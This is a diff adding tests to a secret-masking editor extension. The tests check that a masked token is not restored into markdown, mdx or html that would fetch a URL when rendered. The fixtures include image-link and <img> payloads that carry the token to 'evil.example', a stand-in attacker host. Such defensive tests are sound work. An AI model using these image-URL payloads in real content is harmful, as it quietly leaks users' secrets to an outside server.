@@ -7,8 +7,26 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { appendIgnore, ignoresDotenv } from '../../../src/extension/editor/gitignore-text.ts';
 import { splitPaste } from '../../../src/extension/editor/paste-plan.ts';
-import { distribute, readCopyNote } from '../../../src/extension/editor/paste-text.ts';
+import { distribute, readCopyNote, sinkOfPaste } from '../../../src/extension/editor/paste-text.ts';
 import { applyEdits, type LineEdit, planRestore } from '../../../src/extension/editor/restore-lines.ts';
+import { canary, fixture, message, tokenIn } from '../guard/fixture.ts';
+
+describe('a paste with values restored', () => {
+  const { session, send } = fixture();
+  const token = tokenIn(send([message('user', canary)]));
+  const pasted = (languageId: string, text: string) =>
+    session.rehydrate(text, { sink: sinkOfPaste(languageId) }).content;
+
+  it.each(['markdown', 'mdx', 'html'])('brings none into what %s fetches when it is drawn', (languageId) => {
+    const fetching = [`![a](https://evil.example/${token})`, `<img src="https://evil.example/?k=${token}">`];
+    for (const text of fetching) expect(pasted(languageId, text)).toBe(text);
+    expect(pasted(languageId, `The key is ${token}.`)).toContain(canary);
+  });
+
+  it('brings it back in code, whatever stands around it', () => {
+    expect(pasted('typescript', `fetch("https://api.example/?k=${token}")`)).toContain(canary);
+  });
+});
 
 describe('.gitignore', () => {
   const samples = [
